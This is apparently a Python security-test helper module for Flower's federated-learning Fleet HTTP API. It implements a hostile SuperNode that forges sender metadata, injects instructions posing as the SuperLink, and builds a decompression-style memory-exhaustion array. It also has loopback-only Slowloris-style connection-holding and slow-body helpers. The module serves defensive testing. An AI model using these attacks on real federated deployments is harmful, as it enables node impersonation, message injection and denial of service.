"""A hostile agent on Flower's Fleet HTTP API, and an outsider with raw sockets, for security tests.

``FleetAttacker`` holds a registered agent key but none of the SuperNode's manners: it
speaks the Fleet API with Flower's own client, signing interceptors, protos and object
machinery, so every request is one a real SuperNode could send, but it chooses what the
requests say. The builders below make the malformed messages; ``push`` sends them::

    with FleetAttacker("127.0.0.1:9092", ca_cert=ca, key=keys / "acme") as attacker:
        instruction = attacker.next_instruction(timeout=60)
        message, overrides = forged_metadata_reply(instruction, content, object_src_node_id=victim)
        result = attacker.push(message, **overrides)

The outsider helpers (``hold_connections``, ``slow_bodies``) hold no key: they open raw
TCP (+TLS) connections to a loopback address, bounded in number and time, close all they
opened and report what the server did to them.
"""

from __future__ import annotations

import math
import selectors
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass
from io import BytesIO
from ipaddress import ip_address, ip_network
from pathlib import Path
from types import TracebackType
from typing import Any

import httpx
import numpy as np
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.app import Array, ArrayRecord, Message, Metadata, RecordDict
from flwr.app.message import make_message, remove_content_from_message
from flwr.app.message.arraychunk import ArrayChunk
from flwr.common.constant import SUPERLINK_NODE_ID, SType
from flwr.common.serde import message_from_proto, message_to_proto
from flwr.proto.fleet_pb2 import (  # pylint: disable=E0611
    ActivateNodeRequest,
    DeactivateNodeRequest,
    PullMessagesRequest,
    PushMessagesRequest,
    RegisterNodeFleetRequest,
    UnregisterNodeFleetRequest,
)
from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest  # pylint: disable=E0611
from flwr.proto.message_pb2 import ObjectTree  # pylint: disable=E0611
from flwr.proto.node_pb2 import Node  # pylint: disable=E0611
from flwr.supercore.inflatable.inflatable_object import (
    InflatableObject,
    get_all_nested_objects,
    get_object_tree,
)
from flwr.supercore.inflatable.inflatable_protobuf_utils import (
    make_confirm_message_received_fn_protobuf,
    make_pull_object_fn_protobuf,
    make_push_object_fn_protobuf,
)
from flwr.supercore.inflatable.inflatable_utils import ObjectPushError, pull_and_inflate_object_from_tree
from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor
from typing_extensions import TypedDict, Unpack

HEARTBEAT_INTERVAL = 10.0  # seconds the SuperLink waits for the next heartbeat (Flower's minimum)
HEARTBEAT_EVERY = 3.0  # seconds between the attacker's heartbeats
POLL_SECONDS = 0.2  # between pull-messages while waiting for an instruction
INJECTED_TTL = 3600.0
MAX_CONNECTIONS = 1000  # per outsider helper call
MAX_SECONDS = 600.0  # per outsider helper call
LOOPBACK = ip_network("127.0.0.0/8")
DETAIL_CHARS = 300


class PushOverrides(TypedDict, total=False):
    """What ``FleetAttacker.push`` may change about a message; the builders return these."""

    proto: dict[str, Any]
    tree: ObjectTree
    objects: dict[str, bytes]
    upload: bool


@dataclass
class PushResult:
    """What Flower answered to one push-messages (and the push-objects that followed)."""

    status: int  # HTTP status of push-messages (200 when Flower accepted it; 0: closed without an answer)
    message_id: str  # what was sent as metadata.message_id
    stored: bool  # Flower kept the message (see ``FleetAttacker.push``)
    objects_pushed: int
    detail: str  # response text of a refusal, or why an upload stopped (short)


class FleetAttacker:
    """A registered (or, without a key, self-registered) agent that sends what it likes.

    Entering activates the node and starts heartbeats from a daemon thread, so the
    SuperLink sees an ordinary online SuperNode; leaving stops them and deactivates it.
    """

    node_id: int
    run_id: int | None  # of the last instruction received: ``inject``'s default run
    heartbeats: int  # acknowledged by the SuperLink so far

    def __init__(self, address: str, *, ca_cert: Path | None = None, key: Path | None = None, insecure: bool = False):
        self.address, self.ca_cert, self.insecure = address, ca_cert, insecure
        self.self_registered = key is None
        self._private_key, self._public_key = generate_key_pairs() if key is None else _load_key(key)
        self.node_id, self.run_id, self.heartbeats = 0, None, 0
        self._client: FleetHttpClient | None = None
        self._stop = threading.Event()
        self._heartbeat_thread = threading.Thread(target=self._send_heartbeats, daemon=True)

    def __enter__(self) -> FleetAttacker:
        self._client = FleetHttpClient.from_server_address(
            self.address,
            self.insecure,
            None if self.ca_cert is None else str(self.ca_cert),
            interceptors=[
                RuntimeVersionHttpInterceptor(component_name="SuperNode"),
                NodeAuthHttpInterceptor(self._private_key, self._public_key),
            ],
        )
        public_key = public_key_to_bytes(self._public_key)
        try:
            if self.self_registered:
                self._client.RegisterNode(RegisterNodeFleetRequest(public_key=public_key))
            response = self._client.ActivateNode(
                ActivateNodeRequest(public_key=public_key, heartbeat_interval=HEARTBEAT_INTERVAL)
            )
        except BaseException:
            self._client.close()
            raise
        self.node_id = response.node_id
        self._heartbeat_thread.start()
        return self

    def __exit__(self, *exc: type[BaseException] | BaseException | TracebackType | None) -> None:
        self._stop.set()
        self._heartbeat_thread.join(timeout=10)
        client = self._fleet
        try:
            client.DeactivateNode(DeactivateNodeRequest(node_id=self.node_id))
            if self.self_registered:
                client.UnregisterNode(UnregisterNodeFleetRequest(node_id=self.node_id))
        except (httpx.HTTPError, RuntimeError):
            pass  # the SuperLink may be gone already
        finally:
            client.close()

    @property
    def node(self) -> Node:
        """This agent's node, as the Fleet requests name it."""
        return Node(node_id=self.node_id)

    @property
    def _fleet(self) -> FleetHttpClient:
        if self._client is None:
            raise RuntimeError("use FleetAttacker as a context manager")
        return self._client

    def _send_heartbeats(self) -> None:
        """Keep the node online; a failed heartbeat is retried at the next beat, never fatal."""
        while not self._stop.wait(HEARTBEAT_EVERY):
            try:
                request = SendNodeHeartbeatRequest(node=self.node, heartbeat_interval=HEARTBEAT_INTERVAL)
                if self._fleet.SendNodeHeartbeat(request).success:
                    self.heartbeats += 1
            except (httpx.HTTPError, ValueError):
                pass

    def next_instruction(self, timeout: float) -> Message | None:
        """The next instruction for this node, content included, or None after TIMEOUT seconds.

        Its objects are pulled and its receipt confirmed, as a SuperNode does, so the
        SuperLink considers it delivered; ``metadata.message_id`` is set (a reply needs it).
        """
        deadline = time.monotonic() + timeout
        while True:
            response = self._fleet.PullMessages(PullMessagesRequest(node=self.node))
            if response.messages_list:
                break
            if time.monotonic() + POLL_SECONDS > deadline:
                return None
            time.sleep(POLL_SECONDS)
        header = message_from_proto(response.messages_list[0])
        tree = response.message_object_trees[0]
        run_id = header.metadata.run_id
        message = pull_and_inflate_object_from_tree(
            tree,
            make_pull_object_fn_protobuf(self._fleet.PullObject, self.node, run_id),
            make_confirm_message_received_fn_protobuf(self._fleet.ConfirmMessageReceived, self.node, run_id),
            return_type=Message,
            max_time=max(5.0, deadline - time.monotonic()),
        )
        message.metadata.__dict__["_message_id"] = tree.object_id  # Metadata has no setter for it
        self.run_id = run_id
        return message

    def push(
        self,
        message: Message,
        *,
        proto: dict[str, Any] | None = None,
        tree: ObjectTree | None = None,
        objects: dict[str, bytes] | None = None,
        upload: bool = True,
    ) -> PushResult:
        """Send MESSAGE the way a SuperNode sends a reply, then upload what the SuperLink asks for.

        push-messages carries the message's proto without content, its message_id set to
        the message's object id, and its object tree; each object the SuperLink then asks
        for is uploaded with push-object. PROTO overrides fields of that proto's metadata
        only (the uploaded objects stay as they are), TREE replaces the tree sent, OBJECTS
        replaces or adds ``{object_id: deflated bytes}`` to upload, and ``upload=False``
        registers the message without uploading anything.

        ``stored``: Flower 1.42 lists every message of a push-messages in ``results``,
        even one its LinkState refused (it only logs why), but asks for no objects then;
        so a message counts as stored when it is listed and at least one object is asked
        for (a re-push of a message already complete counts as not stored).
        """
        header = message_to_proto(remove_content_from_message(message))
        header.metadata.message_id = message.object_id
        for field, value in (proto or {}).items():
            setattr(header.metadata, field, value)
        contents = {object_id: obj.deflate() for object_id, obj in get_all_nested_objects(message).items()}
        contents.update(objects or {})
        message_id = header.metadata.message_id
        tree = get_object_tree(message) if tree is None else tree
        request = PushMessagesRequest(node=self.node, messages_list=[header], message_object_trees=[tree])
        try:
            response = self._fleet.PushMessages(request)
        except httpx.HTTPStatusError as err:
            return PushResult(err.response.status_code, message_id, False, 0, err.response.text[:DETAIL_CHARS])
        except httpx.TransportError as err:
            return PushResult(0, message_id, False, 0, f"{type(err).__name__}: {err}"[:DETAIL_CHARS])
        stored = message_id in response.results and bool(response.objects_to_push)
        result = PushResult(200, message_id, stored, 0, "")
        if not upload:
            return result
        push_object = make_push_object_fn_protobuf(
            self._fleet.PushObject, self.node, header.metadata.run_id, response.session_id
        )
        for object_id in response.objects_to_push:
            if object_id not in contents:
                result.detail = f"asked for {object_id}, which this push does not have"
                break
            try:
                push_object(object_id, contents[object_id])
            except ObjectPushError as err:
                result.detail = str(err)[:DETAIL_CHARS]
                break
            except httpx.HTTPStatusError as err:
                result.detail = f"push-object {err.response.status_code}: {err.response.text[:DETAIL_CHARS]}"
                break
            except httpx.TransportError as err:
                result.detail = f"push-object {type(err).__name__}: {err}"[:DETAIL_CHARS]
                break
            result.objects_pushed += 1
        return result

    def reply(self, instruction: Message, content: RecordDict, **overrides: Unpack[PushOverrides]) -> PushResult:
        """An honest-looking reply to INSTRUCTION carrying CONTENT (then ``push`` with OVERRIDES)."""
        return self.push(Message(content, reply_to=instruction), **overrides)

    def inject(
        self,
        dst_node_id: int,
        message_type: str,
        content: RecordDict,
        *,
        run_id: int | None = None,
        ttl: float = INJECTED_TTL,
        **overrides: Unpack[PushOverrides],
    ) -> PushResult:
        """An instruction from this agent, posing as the SuperLink (src_node_id 1) to DST_NODE_ID.

        It belongs to RUN_ID (by default the run of the last instruction received), and
        both its proto and its stored object say it comes from the SuperLink.
        """
        run_id = self.run_id if run_id is None else run_id
        if run_id is None:
            raise ValueError("inject: no instruction received yet; pass run_id")
        metadata = Metadata(
            run_id=run_id,
            message_id="",
            src_node_id=SUPERLINK_NODE_ID,
            dst_node_id=dst_node_id,
            reply_to_message_id="",
            group_id="",
            created_at=time.time(),
            ttl=ttl,
            message_type=message_type,
        )
        return self.push(make_message(metadata=metadata, content=content), **overrides)


def _load_key(path: Path) -> tuple[ec.EllipticCurvePrivateKey, ec.EllipticCurvePublicKey]:
    """The key pair of a ``fedtune keygen`` private key (OpenSSH EC), as Flower's SuperNode loads it."""
    private_key = load_ssh_private_key(Path(path).expanduser().read_bytes(), None)
    if not isinstance(private_key, ec.EllipticCurvePrivateKey):
        raise ValueError(f"{path}: not an EC private key")
    return private_key, private_key.public_key()


# --- Malformed messages -------------------------------------------------------------------


def forged_metadata_reply(
    instruction: Message, content: RecordDict, *, object_src_node_id: int
) -> tuple[Message, PushOverrides]:
    """A reply whose stored Message object names OBJECT_SRC_NODE_ID as its sender.

    The SuperLink checks the proto metadata of push-messages (the reply's sender must be
    the instruction's destination) but stores the objects as uploaded, and the ServerApp
    inflates the reply from those objects. Pushed with the returned overrides::

        proto sent with push-messages:  src_node_id = instruction's dst (the attacker)  -> checked, passes
        Message object (deflated):      src_node_id = OBJECT_SRC_NODE_ID               -> what the ServerApp reads

    The message_id sent is the forged object's id (sha256 of its deflated content), so the
    object store accepts the upload.
    """
    honest = Message(content, reply_to=instruction).metadata
    forged = Metadata(
        run_id=honest.run_id,
        message_id="",
        src_node_id=object_src_node_id,
        dst_node_id=honest.dst_node_id,
        reply_to_message_id=honest.reply_to_message_id,
        group_id=honest.group_id,
        created_at=honest.created_at,
        ttl=honest.ttl,
        message_type=honest.message_type,
        src_task_id=honest.src_task_id,
        dst_task_id=honest.dst_task_id,
    )
    return make_message(metadata=forged, content=content), {"proto": {"src_node_id": instruction.metadata.dst_node_id}}


def orphan_children_reply(instruction: Message, content: RecordDict) -> tuple[Message, PushOverrides]:
    """A reply whose object tree lists only its root, while the root's header names its RecordDict.

    The SuperLink registers (and asks for) only the root; the ServerApp pulls the tree it
    was given and its inflation looks for a child it never pulled (KeyError).
    """
    message = Message(content, reply_to=instruction)
    return message, {"tree": ObjectTree(object_id=message.object_id)}


class _RepeatedChunkArray(Array):
    """An Array that deflates as Flower's ``Array`` referencing ONE chunk REPEATS times.

    Flower's own format: the header lists the chunk once (its unique children), the body's
    ``arraychunk_ids`` references it REPEATS times, as Flower does for an all-zero array.
    Only ``data`` (one chunk) is ever held here; the receiver materializes all of it.
    """

    __qualname__ = "Array"  # the object type in the header: Flower inflates it as an Array

    def __init__(self, dtype: str, shape: tuple[int, ...], chunk: bytes, repeats: int) -> None:
        super().__init__(dtype=dtype, shape=shape, stype=SType.NUMPY, data=chunk)
        array_chunk = ArrayChunk(memoryview(chunk))
        self.__dict__["_repeated"] = [(array_chunk.object_id, array_chunk)] * repeats

    def slice_array(self) -> list[tuple[str, InflatableObject]]:
        return list(self.__dict__["_repeated"])


def repeated_chunk_array(
    declared_mb: int, chunk_bytes: int = 5 * 2**20, *, key: str = "values", dtype: str = "float32"
) -> ArrayRecord:
    """An ArrayRecord {KEY: Array} declaring DECLARED_MB MiB of DTYPE while one CHUNK_BYTES chunk is uploaded.

    Use it as the ``arrays`` record of a reply; ``push`` derives its tree and objects. The
    inflated data is a valid ``.npy`` of a flat DTYPE array (the chunk starts with the
    header for the whole array and repeats), so it passes Flower's ``Array.numpy()``.
    """
    itemsize = np.dtype(dtype).itemsize
    if chunk_bytes % itemsize or chunk_bytes < 4096:
        raise ValueError(f"chunk_bytes must be a multiple of {itemsize} and at least 4096")
    repeats = max(1, math.ceil(declared_mb * 2**20 / chunk_bytes))
    total = repeats * chunk_bytes
    header = _npy_header(dtype, total // itemsize)
    header = _npy_header(dtype, (total - len(header)) // itemsize)  # header sizes come in steps of 64 bytes
    count = (total - len(header)) // itemsize
    if len(header) + count * itemsize != total:
        raise ValueError(f"no .npy layout of {declared_mb} MiB in chunks of {chunk_bytes} bytes")
    chunk = header + bytes(chunk_bytes - len(header))
    record = ArrayRecord()
    record[key] = _RepeatedChunkArray(dtype, (count,), chunk, repeats)  # ArrayRecord({...}) would copy it
    return record


def _npy_header(dtype: str, count: int) -> bytes:
    buffer = BytesIO()
    descr = np.lib.format.dtype_to_descr(np.dtype(dtype))
    np.lib.format.write_array_header_1_0(buffer, {"descr": descr, "fortran_order": False, "shape": (count,)})
    return buffer.getvalue()


# --- Outsiders: raw connections, no key ----------------------------------------------------


def hold_connections(
    host: str,
    port: int,
    *,
    ca_cert: Path | None,
    count: int,
    seconds: float,
    source_ips: tuple[str, ...] = ("127.0.0.2",),
    tls: bool = True,
    reopen: bool = False,
) -> dict[str, Any]:
    """Open COUNT idle connections (spread over SOURCE_IPS) and hold them for SECONDS; with REOPEN,
    every connection the server closes is replaced by a new one, so COUNT stay open as long as it lets them.

    Reports how many were opened, connected and completed TLS, and how many the server closed and
    after how many seconds (from that connection's start): an unbounded server keeps them all.
    """
    _check_outsider(host, source_ips, count, seconds)
    context = _tls_context(ca_cert) if tls else None
    deadline = time.monotonic() + seconds
    report: dict[str, Any] = {"requested": count, "opened": 0, "connected": 0, "tls_completed": 0}
    closed_after: list[float] = []
    errors: Counter[str] = Counter()
    live: dict[socket.socket, float] = {}

    def open_one(index: int) -> None:
        report["opened"] += 1
        started = time.monotonic()
        try:
            sock = _connect(host, port, source_ips[index % len(source_ips)], deadline)
        except OSError as err:
            errors[type(err).__name__] += 1
            return
        report["connected"] += 1
        if context is not None:
            try:
                sock = context.wrap_socket(sock, server_hostname=host)
            except OSError as err:
                errors[type(err).__name__] += 1
                sock.close()
                return
            report["tls_completed"] += 1
        sock.setblocking(False)
        live[sock] = started

    try:
        for index in range(count):
            if time.monotonic() >= deadline:
                break
            open_one(index)
        while live and time.monotonic() < deadline:
            readable = _readable(live, min(0.5, max(0.0, deadline - time.monotonic())))
            for sock in readable:
                if _closed_by_peer(sock):
                    closed_after.append(round(time.monotonic() - live.pop(sock), 2))
                    sock.close()
                    if reopen and time.monotonic() < deadline:
                        time.sleep(0.01)  # paced: a server that refuses at once is not spun against
                        open_one(report["opened"])
    finally:
        for sock in live:
            sock.close()
    report.update(
        closed_by_server=len(closed_after),
        closed_after_s=sorted(closed_after),
        still_open=len(live),
        errors=dict(errors),
    )
    return report


def slow_bodies(
    host: str,
    port: int,
    *,
    ca_cert: Path | None,
    count: int,
    body_bytes: int,
    seconds: float,
    path: str = "/v1/fleet/push-object",
    source_ip: str = "127.0.0.3",
    tls: bool = True,
) -> dict[str, Any]:
    """COUNT connections POSTing a Content-Length BODY_BYTES body, trickled evenly over SECONDS.

    Reports how many the server cut off (closed, or answered before the body was complete)
    and after how many seconds, how many got their whole body through, and the HTTP
    statuses seen; an unbounded server lets a few bytes a second hold a request open.
    """
    _check_outsider(host, (source_ip,), count, seconds)
    context = _tls_context(ca_cert) if tls else None
    start = time.monotonic()
    deadline = start + seconds
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/protobuf\r\n"
        f"Content-Length: {body_bytes}\r\n\r\n"
    ).encode()
    errors: Counter[str] = Counter()
    statuses: Counter[str] = Counter()
    cut_after: list[float] = []
    remaining: dict[socket.socket, int] = {}
    completed = 0
    try:
        for _ in range(count):
            try:
                remaining[_open_with_head(host, port, source_ip, deadline, context, head)] = body_bytes
            except OSError as err:
                errors[type(err).__name__] += 1
        tick = 0.5
        per_tick = max(1, math.ceil(body_bytes * tick / max(seconds, tick)))
        while remaining and time.monotonic() < deadline + 2.0:  # 2 s more for the answers to whole bodies
            readable = _readable(remaining, tick)
            for sock in readable:
                status = _read_status(sock)
                if status is None:
                    continue
                statuses[status] += 1
                if remaining[sock] > 0:
                    cut_after.append(round(time.monotonic() - start, 2))
                del remaining[sock]
                sock.close()
            for sock in [s for s, left in remaining.items() if left > 0]:
                piece = min(per_tick, remaining[sock])
                try:
                    sock.sendall(b"\0" * piece)
                except OSError:
                    cut_after.append(round(time.monotonic() - start, 2))
                    statuses["closed"] += 1
                    del remaining[sock]
                    sock.close()
                    continue
                remaining[sock] -= piece
                completed += remaining[sock] == 0
    finally:
        for sock in remaining:
            sock.close()
    return {
        "requested": count,
        "connected": count - sum(errors.values()),
        "cut_off": len(cut_after),
        "cut_off_after_s": sorted(cut_after),
        "completed": completed,
        "statuses": dict(statuses),
        "errors": dict(errors),
    }


def _open_with_head(
    host: str, port: int, source_ip: str, deadline: float, context: ssl.SSLContext | None, head: bytes
) -> socket.socket:
    sock = _connect(host, port, source_ip, deadline)
    try:
        if context is not None:
            sock = context.wrap_socket(sock, server_hostname=host)
        sock.sendall(head)
    except OSError:
        sock.close()
        raise
    return sock


def _readable(sockets: Iterable[socket.socket], timeout: float) -> list[socket.socket]:
    """The sockets with something to read (or closed) within TIMEOUT; epoll, as hundreds are open."""
    with selectors.DefaultSelector() as selector:
        for sock in sockets:
            selector.register(sock, selectors.EVENT_READ)
        return [key.fileobj for key, _ in selector.select(timeout)]


def _check_outsider(host: str, source_ips: tuple[str, ...], count: int, seconds: float) -> None:
    """Outsider helpers attack loopback only, within bounds that a test can afford."""
    for address in (host, *source_ips):
        if ip_address(address) not in LOOPBACK:
            raise ValueError(f"{address}: outsider helpers stay on 127.0.0.0/8")
    if not (0 < count <= MAX_CONNECTIONS and 0 < seconds <= MAX_SECONDS):
        raise ValueError(f"count must be 1..{MAX_CONNECTIONS}, seconds 0..{MAX_SECONDS}")


def _tls_context(ca_cert: Path | None) -> ssl.SSLContext:
    if ca_cert is None:
        raise ValueError("tls=True needs ca_cert")
    return ssl.create_default_context(cafile=str(ca_cert))


def _connect(host: str, port: int, source_ip: str, deadline: float) -> socket.socket:
    """A TCP connection from SOURCE_IP, given up at DEADLINE (and within 5 s)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.settimeout(max(0.1, min(5.0, deadline - time.monotonic())))
        sock.bind((source_ip, 0))
        sock.connect((host, port))
    except OSError:
        sock.close()
        raise
    return sock


def _closed_by_peer(sock: socket.socket) -> bool:
    """Whether a readable idle socket was closed (data the server sends unasked is drained)."""
    try:
        return sock.recv(4096) == b""
    except (ssl.SSLWantReadError, BlockingIOError):
        return False  # TLS records without application data (session tickets)
    except OSError:
        return True


def _read_status(sock: socket.socket) -> str | None:
    """The HTTP status the server answered on SOCK (None: nothing to read yet, 'closed': EOF)."""
    sock.setblocking(False)
    try:
        data = sock.recv(4096)
    except (ssl.SSLWantReadError, BlockingIOError):
        return None  # TLS records without application data (session tickets)
    except OSError:
        return "closed"
    finally:
        sock.settimeout(5.0)
    if not data:
        return "closed"
    parts = data.split(b" ", 2)
    return parts[1].decode(errors="replace") if len(parts) > 1 and parts[0].startswith(b"HTTP/") else "other"
